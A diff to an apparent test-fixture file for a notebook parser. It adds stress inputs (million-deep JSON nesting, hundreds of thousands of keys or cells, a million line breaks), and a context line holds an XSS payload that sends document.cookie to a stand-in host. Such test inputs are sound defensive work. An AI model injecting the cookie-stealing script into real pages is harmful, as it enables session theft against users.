@@ -76,6 +76,18 @@ XSS = "<script>document.location = 'https://example.invalid/?' + document.cookie
 R_KERNEL = {"kernelspec": {"name": "ir", "language": "R", "display_name": "R"}}
 PERCENT = "".join(f"# %% [markdown]\n# part {n}\n\n# %%\n{c}\n\n" for n, c in enumerate(HONEST))
 
+EMPTY = dump(text("", "code"))
+LINES = r"\n" * 10**6
+HEAD = '"metadata": {}, "cells": ['
+
+
+def with_more(metadata: str = "{}", cells: str = "") -> str:
+    """Return the honest notebook as text, with other metadata, and cells before its own."""
+    whole = json.dumps(notebook(*HONEST))
+    assert whole.count(HEAD) == 1
+    return whole.replace(HEAD, f'"metadata": {metadata}, "cells": [{cells}')
+
+
 # What each notebook holds, by id: a document, or a text that is no document.
 TEXTS = {
     "broken_json": dump(notebook(*HONEST))[:-40],
@@ -115,6 +127,10 @@ TEXTS = {
     ),
     "bom": "\ufeff" + dump(notebook(*HONEST)),
     "gbk": dump(notebook("# 两层网络的梯度：前向传播与反向传播", *HONEST)),
+    "deep_json": with_more(metadata=f'{{"a": {"[" * 10**6}{"]" * 10**6}}}'),
+    "keys_by_hundred_thousands": with_more(json.dumps({f"k{n}": n for n in range(300_000)})),
+    "cells_by_hundred_thousands": with_more(cells=f"{EMPTY}," * 200_000),
+    "lines_by_millions": with_more(cells=EMPTY.replace('""', f'"x = 1{LINES}"') + ","),
     "utf16": dump(notebook("# 兩層網路", *HONEST)),
 }
 ENCODINGS = {"gbk": "gbk", "utf16": "utf-16"}
